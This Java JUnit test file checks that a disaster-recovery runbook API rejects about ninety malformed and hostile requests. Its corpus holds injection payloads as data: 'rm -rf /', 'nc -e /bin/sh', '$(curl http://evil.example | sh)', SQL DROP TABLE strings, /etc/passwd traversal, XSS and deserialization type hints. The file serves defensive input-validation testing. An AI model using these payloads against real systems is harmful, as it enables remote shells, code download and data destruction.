package io.drrunbook.runs;

import static io.drrunbook.runs.ApiTestSupport.PROCEDURE;
import static org.assertj.core.api.Assertions.assertThat;

import io.drrunbook.DrillContext;
import io.drrunbook.common.DrGroups;
import io.drrunbook.lab.Lab;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.IdentityService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * A corpus of malformed and hostile requests to the product API, as a broken or malicious ticketing
 * system would send them: each is answered with a 4xx, starts no run and sends no command to any
 * host of the drill lab.
 */
@DrillContext
class HostileRequestsTest {

  /** One hostile request. */
  record Hostile(String name, String method, String path, String contentType, String body, String user) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final String VALID_TICKET =
      "{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\"}";
  private static final List<String> USERS = List.of("api-hostile-1", "api-hostile-2", "api-hostile-3");

  @Autowired HistoryService history;
  @Autowired IdentityService identity;
  @Autowired Lab lab;
  @LocalServerPort int port;

  @BeforeEach
  void prepare() {
    USERS.forEach(user -> ApiTestSupport.user(identity, user, DrGroups.OPERATORS));
    lab.reset();
  }

  @Test
  void shouldHoldAtLeastFiftyHostileRequests() {
    assertThat(corpus().count()).isGreaterThanOrEqualTo(50);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void shouldAnswer4xxAndStartNothingAndTouchNoHostWhenTheRequestIsHostile(Hostile request)
      throws Exception {
    long runsBefore = history.createHistoricProcessInstanceQuery().count();
    Map<String, Object> labBefore = labCommands();

    HttpResponse<String> response = new RawHttp(port)
        .send(request.method(), request.path(), request.user(), request.contentType(), request.body());

    assertThat(response.statusCode()).as(response.body()).isBetween(400, 499)
        // refused for what it is, not for the rate (the corpus is spread over three callers)
        .isNotEqualTo(429);
    assertThat(response.body()).doesNotContain("Exception").doesNotContain("\tat ");
    assertThat(history.createHistoricProcessInstanceQuery().count()).isEqualTo(runsBefore);
    assertThat(labCommands()).isEqualTo(labBefore);
  }

  /** Every host's last commands and action counts. */
  private Map<String, Object> labCommands() {
    Map<String, Object> commands = new LinkedHashMap<>();
    lab.state().hosts().forEach(host -> {
      commands.put(host + ".lastCommands", lab.state().commandLog(host));
      commands.put(host + ".actionCounts", lab.state().actionCounts(host));
    });
    return commands;
  }

  static Stream<Hostile> corpus() {
    List<Hostile> all = new ArrayList<>();
    Builder b = new Builder(all);
    // malformed JSON
    b.post("unclosed object", "{");
    b.post("missing value", "{\"procedure\": }");
    b.post("not JSON", "not json at all");
    b.post("empty body", "");
    b.post("JSON null", "null");
    b.post("array instead of object", "[]");
    b.post("string instead of object", "\"dr-genesys-cs-failover\"");
    b.post("number instead of object", "123");
    b.post("trailing second object", start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\"") + "{}");
    b.post("duplicate key", "{\"procedure\": \"x\", " + start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\"").substring(1));
    b.post("deep nesting", start("\"" + PROCEDURE + "\"", VALID_TICKET,
        "{\"rtoMinutes\": " + "[".repeat(200) + "]".repeat(200) + "}", "\"drill\""));
    b.post("single quotes", "{'procedure': 'dr-genesys-cs-failover'}");
    b.post("comment", "/* hi */ " + start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\""));
    b.post("NaN", withParameters("{\"rtoMinutes\": NaN}"));
    // wrong JSON types
    b.post("procedure as number", start("123", VALID_TICKET, "{}", "\"drill\""));
    b.post("procedure as boolean", start("true", VALID_TICKET, "{}", "\"drill\""));
    b.post("procedure as object", start("{}", VALID_TICKET, "{}", "\"drill\""));
    b.post("procedure as array", start("[\"" + PROCEDURE + "\"]", VALID_TICKET, "{}", "\"drill\""));
    b.post("ticket as string", start("\"" + PROCEDURE + "\"", "\"CHG0012345\"", "{}", "\"drill\""));
    b.post("ticket as array", start("\"" + PROCEDURE + "\"", "[]", "{}", "\"drill\""));
    b.post("ticket id as number", withTicket("{\"system\": \"servicenow\", \"id\": 12345}"));
    b.post("ticket system null", withTicket("{\"system\": null, \"id\": \"HOSTILE-1\"}"));
    b.post("parameters as array", withParameters("[60]"));
    b.post("parameters as string", withParameters("\"rtoMinutes=60\""));
    b.post("integer parameter as string", withParameters("{\"rtoMinutes\": \"60\"}"));
    b.post("integer parameter as fraction", withParameters("{\"rtoMinutes\": 60.5}"));
    b.post("integer parameter with exponent", withParameters("{\"rtoMinutes\": 1e3}"));
    b.post("integer parameter overflow", withParameters("{\"rtoMinutes\": 99999999999999999999999}"));
    b.post("integer parameter below range", withParameters("{\"rtoMinutes\": -1}"));
    b.post("integer parameter above range", withParameters("{\"rtoMinutes\": 1441}"));
    b.post("integer parameter as boolean", withParameters("{\"rtoMinutes\": true}"));
    b.post("integer parameter null", withParameters("{\"rtoMinutes\": null}"));
    b.post("operator object as parameter", withParameters("{\"rtoMinutes\": {\"$gt\": 0}}"));
    b.post("mode as array", start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "[\"execute\"]"));
    b.post("mode in capitals", start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"EXECUTE\""));
    b.post("mode null", start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "null"));
    b.post("mode unknown", start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"dry_run\""));
    // nulls and emptiness
    b.post("all null", "{\"procedure\": null, \"ticket\": null, \"parameters\": null, \"mode\": null}");
    b.post("empty object", "{}");
    // huge strings
    b.post("ticket id of 1000 characters", withTicket(ticket("A".repeat(1000))));
    b.post("procedure of 60000 characters", start("\"" + "x".repeat(60_000) + "\"", VALID_TICKET, "{}", "\"drill\""));
    b.post("ticket url of 3000 characters", withTicket(
        "{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"url\": \"https://" + "a".repeat(3000) + "\"}"));
    // unknown fields
    b.post("unknown top-level field", "{\"callback\": \"http://evil.example\", "
        + start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\"").substring(1));
    b.post("unknown ticket field", withTicket("{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"priority\": 1}"));
    b.post("prototype pollution key", withParameters("{\"__proto__\": {\"admin\": true}}"));
    b.post("class key", withParameters("{\"class\": \"java.lang.Runtime\"}"));
    b.post("polymorphic type hint", "{\"@type\": \"java.lang.ProcessBuilder\", "
        + start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\"").substring(1));
    // shell and SQL metacharacters
    b.post("shell in ticket id", withTicket(ticket("CHG1; rm -rf /")));
    b.post("command substitution in ticket id", withTicket(ticket("$(reboot)")));
    b.post("backticks in ticket id", withTicket(ticket("`id`")));
    b.post("SQL in ticket id", withTicket(ticket("CHG1' OR '1'='1")));
    b.post("SQL drop in ticket id", withTicket(ticket("CHG1\\\"; DROP TABLE DR_RUN_KEY;--")));
    b.post("pipe in ticket system", withTicket("{\"system\": \"servicenow|nc -e /bin/sh\", \"id\": \"HOSTILE-1\"}"));
    b.post("shell in procedure", start("\"" + PROCEDURE + "; ls\"", VALID_TICKET, "{}", "\"drill\""));
    b.post("SQL in procedure", start("\"' OR 1=1 --\"", VALID_TICKET, "{}", "\"drill\""));
    b.post("shell in parameter", withParameters("{\"rtoMinutes\": \"60; shutdown -h now\"}"));
    b.post("undeclared parameter with shell", withParameters("{\"cmd\": \"$(curl http://evil.example | sh)\"}"));
    // path traversal
    b.post("traversal in ticket id", withTicket(ticket("../../etc/passwd")));
    b.post("encoded traversal in ticket id", withTicket(ticket("..%2F..%2Fetc")));
    b.post("traversal in procedure", start("\"../processes/" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\""));
    b.get("traversal in run id", "/api/runs/..%2F..%2Fetc%2Fpasswd");
    b.get("dot-encoded traversal in run id", "/api/runs/%2e%2e%2f%2e%2e%2fetc%2fpasswd");
    b.get("SQL in run id", "/api/runs/" + enc("';DROP TABLE ACT_RU_EXECUTION;--"));
    b.get("shell in run id", "/api/runs/" + enc("$(reboot)"));
    b.get("long run id", "/api/runs/" + "a".repeat(5000));
    b.add("traversal in cancelled run id", "POST", "/api/runs/..%2F..%2Fx/cancel", "application/json", "{\"reason\": \"x\"}");
    b.add("cancel of an unknown run", "POST", "/api/runs/" + enc("1' OR '1'='1") + "/cancel", "application/json", "{\"reason\": \"x\"}");
    b.get("SQL in ticket filter", "/api/runs?ticket=" + enc("';--"));
    b.get("SQL in state filter", "/api/runs?state=" + enc("ACTIVE' OR 1=1"));
    b.get("negative page", "/api/runs?page=-1");
    b.get("huge page size", "/api/runs?size=100000");
    b.get("page not a number", "/api/runs?page=abc");
    b.get("traversal in procedure id", "/api/procedures/..%2F..%2Fetc%2Fpasswd");
    b.get("unknown procedure id", "/api/procedures/" + enc("<script>alert(1)</script>"));
    // unicode tricks
    b.post("right-to-left override in ticket id", withTicket(ticket("CHG1\\u202e")));
    b.post("fullwidth digits in ticket id", withTicket(ticket("ＣＨＧ１")));
    b.post("NUL in ticket id", withTicket(ticket("CHG1\\u0000")));
    b.post("zero-width space in ticket system", withTicket("{\"system\": \"servicenow\\u200b\", \"id\": \"HOSTILE-1\"}"));
    b.post("NUL in procedure", start("\"" + PROCEDURE + "\\u0000\"", VALID_TICKET, "{}", "\"drill\""));
    b.post("emoji in ticket id", withTicket(ticket("CHG\uD83D\uDD25")));
    b.post("lone surrogate in ticket id", withTicket(ticket("CHG\\ud800")));
    b.post("javascript URL", withTicket("{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"url\": \"javascript:alert(1)\"}"));
    b.post("file URL", withTicket("{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"url\": \"file:///etc/passwd\"}"));
    b.post("credentials in URL", withTicket("{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"url\": \"https://user:pass@evil.example\"}"));
    b.post("header injection in URL", withTicket("{\"system\": \"servicenow\", \"id\": \"HOSTILE-1\", \"url\": \"http://x.example/\\r\\nSet-Cookie: a=b\"}"));
    // content types, methods, size
    String valid = start("\"" + PROCEDURE + "\"", VALID_TICKET, "{}", "\"drill\"");
    b.add("text/plain", "POST", "/api/runs", "text/plain", valid);
    b.add("form encoded", "POST", "/api/runs", "application/x-www-form-urlencoded", "procedure=" + PROCEDURE);
    b.add("unknown charset", "POST", "/api/runs", "application/json;charset=nonsense", valid);
    b.add("XML", "POST", "/api/runs", "application/xml", "<run><procedure>" + PROCEDURE + "</procedure></run>");
    b.add("no content type", "POST", "/api/runs", null, valid);
    b.add("PUT on runs", "PUT", "/api/runs", "application/json", valid);
    b.add("DELETE on a run", "DELETE", "/api/runs/x", null, null);
    b.add("PATCH on procedures", "PATCH", "/api/procedures", "application/json", "{}");
    b.post("100 KiB body", withParameters("{\"rtoMinutes\": 60, \"pad\": \"" + "x".repeat(100 * 1024) + "\"}"));
    return all.stream();
  }

  private static String start(String procedure, String ticket, String parameters, String mode) {
    return "{\"procedure\": " + procedure + ", \"ticket\": " + ticket + ", \"parameters\": "
        + parameters + ", \"mode\": " + mode + "}";
  }

  private static String withTicket(String ticket) {
    return start("\"" + PROCEDURE + "\"", ticket, "{}", "\"drill\"");
  }

  private static String withParameters(String parameters) {
    return start("\"" + PROCEDURE + "\"", VALID_TICKET, parameters, "\"drill\"");
  }

  private static String ticket(String id) {
    return "{\"system\": \"servicenow\", \"id\": \"" + id + "\"}";
  }

  private static String enc(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  /** Adds requests, spreading them over three users (each stays under the start rate). */
  private record Builder(List<Hostile> all) {
    void add(String name, String method, String path, String contentType, String body) {
      all.add(new Hostile(name, method, path, contentType, body, USERS.get(all.size() % USERS.size())));
    }

    void post(String name, String body) {
      add(name, "POST", "/api/runs", "application/json", body);
    }

    void get(String name, String path) {
      add(name, "GET", path, null, null);
    }
  }
}
